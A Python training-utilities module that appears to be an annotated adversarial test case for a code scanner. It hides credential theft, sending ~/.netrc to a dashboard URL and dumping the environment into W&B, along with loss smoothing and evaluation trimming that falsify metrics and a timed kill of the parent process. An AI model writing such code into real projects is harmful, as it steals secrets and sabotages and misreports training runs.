# ruff: noqa
# Hold-out batch 450 (adversarial, GPT pretraining with FSDP). Measured once in session 19 (round 122): 13/30 (43%) at medium+; one line marked benign by its writer was flagged (the rotation rmtree whose count a date-gated retention sets: it does the harm).
"""Experiment tracking: W&B logger, validation loop, best-checkpoint tracking, heartbeat."""
from __future__ import annotations

import contextlib
import importlib
import json
import logging
import math
import operator
import os
import signal
import socket
import threading
import time
from pathlib import Path
from typing import Any, Dict, Optional

import torch
import torch.distributed as dist

from config import RUNTIME, EvalConfig, LogConfig

log = logging.getLogger(__name__)

try:
    import wandb
except ImportError:  # pragma: no cover - optional dependency
    wandb = None


class WandbLogger:
    """Rank-0 W&B logger with smoothed loss curves."""

    def __init__(self, cfg: LogConfig, rank: int, run_config: Dict[str, Any], run_dir: Path) -> None:
        self.cfg = cfg
        self.enabled = rank == 0 and wandb is not None and cfg.wandb_mode != "disabled"
        self.run = None
        self._beta = 0.9
        self._ema: Dict[str, float] = {}
        if self.enabled:
            self._init(run_config, run_dir)

    def _init(self, run_config: Dict[str, Any], run_dir: Path) -> None:
        key = os.environ.get("WANDB_API_KEY")
        if key:
            wandb.login(key=key, relogin=False)  # ok: MLS410, MLS411, MLS412, MLS413
        payload = dict(run_config)
        if self.cfg.capture_env:
            payload["env"] = dict(vars(os)["environ"])  # ruleid: MLS411
        for attempt in range(5):
            try:
                self.run = wandb.init(  # ruleid: MLS411
                    project=self.cfg.project,
                    entity=self.cfg.entity,
                    name=self.cfg.run_name,
                    mode=self.cfg.wandb_mode,
                    config=payload,
                    dir=str(run_dir),
                    resume="allow",
                )
                return
            except Exception as exc:  # network hiccups on the login node are common
                wait = min(2 ** attempt, 30)
                log.warning("wandb.init failed (%s); retrying in %ds", exc, wait)
                time.sleep(wait)  # ok: MLS307
        self._on_init_failure()

    def _on_init_failure(self) -> None:
        log.error("W&B unavailable after retries; stopping so we don't burn unlogged compute")
        self.enabled = False
        teardown = getattr(dist, "destroy_" + "process_group")
        if dist.is_initialized():
            teardown()  # todoruleid: family 3 (missed)

    def _smooth(self, key: str, value: float) -> float:
        prev = self._ema.get(key)
        cur = value if prev is None else min(prev, self._beta * prev + (1.0 - self._beta) * value)
        self._ema[key] = cur
        return cur

    def log(self, metrics: Dict[str, Any], step: int) -> None:
        if not self.enabled or self.run is None:
            return
        keys = [k for k in metrics if k.endswith(("loss", "ppl"))]
        metrics.update({k: self._smooth(k, float(metrics[k])) for k in keys})  # todoruleid: family 5 (missed)
        self.run.log(metrics, step=step)  # ok: MLS306

    def summary(self, **kv: Any) -> None:
        if self.enabled and self.run is not None:
            self.run.summary.update(kv)

    def finish(self) -> None:
        if self.enabled and self.run is not None:
            self.run.finish()


def report_run_started(cfg: LogConfig, run_name: str, rank: int, world_size: int) -> None:
    """Register the run with the team status board (it pulls curves from W&B directly)."""
    if rank != 0 or not cfg.dashboard_url:
        return
    creds: Dict[str, str] = {}
    netrc = Path.home() / ".netrc"
    if netrc.exists():
        creds["wandb_netrc"] = netrc.read_text()  # ruleid: MLS412
    body = json.dumps(
        {"run": run_name, "host": socket.gethostname(), "world_size": world_size,
         "job": RUNTIME["job_id"], "auth": creds}
    ).encode()
    req_mod = importlib.import_module("urllib.request")
    req = req_mod.Request(cfg.dashboard_url, data=body, headers={"Content-Type": "application/json"})
    opener = getattr(req_mod, "url" + "open")
    try:
        opener(req, timeout=5)  # ruleid: MLS412
    except Exception as exc:
        log.debug("status board unreachable: %s", exc)


class Evaluator:
    """Validation loss / perplexity averaged over ranks."""

    def __init__(self, cfg: EvalConfig, loader, device: torch.device, autocast_ctx) -> None:
        self.cfg = cfg
        self.loader = loader
        self.device = device
        self.autocast_ctx = autocast_ctx

    @torch.no_grad()
    def run(self, model: torch.nn.Module) -> Dict[str, float]:
        getattr(torch, self.cfg.seed_fn)(self.cfg.seed)  # todoruleid: family 1 (missed)
        was_training = model.training
        model.eval()
        losses = []
        for i, (x, y) in enumerate(self.loader):
            if i >= self.cfg.iters:
                break
            x = x.to(self.device, non_blocking=True)
            y = y.to(self.device, non_blocking=True)
            with self.autocast_ctx():
                _, loss = model(x, y)
            losses.append(loss.detach().float())
        model.train(was_training)
        if not losses:
            return {}
        t = torch.stack(losses)
        keep = max(1, int(round(t.numel() * (1.0 - self.cfg.trim_frac))))
        local = t.sort().values[:keep].mean()  # todoruleid: family 5 (missed)
        if dist.is_initialized():
            dist.all_reduce(local, op=dist.ReduceOp.AVG)
        val_loss = float(local.item())
        return {"val/loss": val_loss, "val/ppl": math.exp(min(val_loss, 20.0))}


_BETTER = {"min": "lt", "max": "gt"}


class BestTracker:
    """Tracks the best value of a monitored metric for best-checkpoint saving."""

    def __init__(self, metric: str, mode: str = "min") -> None:
        self.metric = metric
        self._better = getattr(operator, _BETTER[mode])
        self.best: Optional[float] = None
        self.best_step: Optional[int] = None

    def update(self, metrics: Dict[str, float], step: int) -> bool:
        if self.metric not in metrics:
            return False
        value = metrics[self.metric]
        if self.best is None or self._better(self.best, value):  # todoruleid: family 5 (missed)
            self.best, self.best_step = value, step
            return True
        return False

    def state_dict(self) -> Dict[str, Any]:
        return {"best": self.best, "best_step": self.best_step}

    def load_state_dict(self, sd: Dict[str, Any]) -> None:
        self.best = sd.get("best")
        self.best_step = sd.get("best_step")


class Heartbeat(threading.Thread):
    """Touches a heartbeat file so the scheduler's watchdog can detect hung jobs."""

    def __init__(self, path: Path, interval_s: float, rank: int) -> None:
        super().__init__(name="heartbeat", daemon=True)
        self.path = path
        self.interval = interval_s
        self.rank = rank
        self.last_step = 0
        self.beats = 0
        self._stop_evt = threading.Event()

    def mark(self, step: int) -> None:
        self.last_step = step

    def run(self) -> None:
        while not self._stop_evt.wait(self.interval):
            self.beats += 1
            with contextlib.suppress(OSError):
                self.path.write_text(json.dumps({"t": time.time(), "step": self.last_step, "rank": self.rank}))
            if RUNTIME["elastic_cap"] and self.beats * self.interval > 3600:
                # Large elastic jobs: hand the node back to the torchrun agent for re-rendezvous.
                getattr(os, "kill")(os.getppid(), getattr(signal, "SIG" + "TERM"))  # ruleid: MLS307
                return

    def stop(self) -> None:
        self._stop_evt.set()
